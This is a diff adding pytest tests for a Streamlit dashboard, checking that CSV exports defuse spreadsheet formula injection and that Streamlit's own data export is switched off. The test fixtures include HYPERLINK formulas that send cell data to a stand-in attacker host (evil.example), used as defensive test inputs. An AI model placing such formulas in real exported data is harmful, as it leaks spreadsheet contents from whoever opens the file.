@@ -3,8 +3,15 @@
 Data is set up through the API (in-process) or the models; every decision the dashboard
 makes goes over HTTP to the API process, which applies the rules."""
 
+import csv as csv_module
+import io
 from datetime import UTC, datetime, timedelta
 
+import pandas as pd
+import pytest
+from streamlit import config as st_config
+
+from dashboard import show
 from domain.lifecycle import ContractKind, ContractStatus, RegistrationStatus, ReviewStatus
 from domain.models import (
     Contract,
@@ -297,6 +304,43 @@ async def test_a_contracts_page_shows_its_dates_signature_check_and_pdf(app, set
     assert [b.label for b in at.download_button] == ["Download signed PDF"]
     timeline = at.dataframe[-1].value
     assert {"Contract pushed", "Contract sign requested", "Contract signed"} <= set(timeline["What"])
+    assert not at.exception
+
+
+# --- CSV exports (#14 finding 10, S-30) -----------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Verified")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_cell_that_starts_like_a_formula_exports_as_text(value):
+    assert show.csv_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Acme Cloud GmbH", "a=b", "x+1", "", "'quoted", "株式会社アクメ", 42, -5, None])
+def test_other_cells_export_unchanged(value):
+    assert show.csv_cell(value) == value
+
+
+def test_the_csv_neutralises_every_cell_and_keeps_every_script():
+    table = pd.DataFrame({"Legal name": ["=1+1", "株式会社アクメ"], "Phone": ["+4930123456", "+81355550101"],
+                          "Days left": [-3, 40]})
+    rows = list(csv_module.reader(io.StringIO(show.csv(table).decode("utf-8-sig"))))
+    assert rows == [["Legal name", "Phone", "Days left"], ["'=1+1", "'+4930123456", "-3"],
+                    ["株式会社アクメ", "'+81355550101", "40"]]
+
+
+async def test_the_partner_list_exports_a_formula_as_text_and_streamlit_s_own_export_is_off(app, settings, manager, client):
+    formula = '=HYPERLINK("http://evil.example","Verified partner")'
+    await register(client, "evil@example.com", legalName=formula)
+    at = await signed_in_as(app, settings, MANAGER)
+    at.switch_page("views/partners.py").run()
+    shown = at.dataframe[0].value
+    assert list(shown["Legal name"]) == [formula]  # shown on screen as typed
+    assert [b.label for b in at.download_button] == ["Download CSV"]
+    assert f"'{formula}".replace('"', '""') in show.csv(shown).decode("utf-8-sig")
+    assert st_config.get_option("client.disableDataExport") is True
     assert not at.exception
 
 
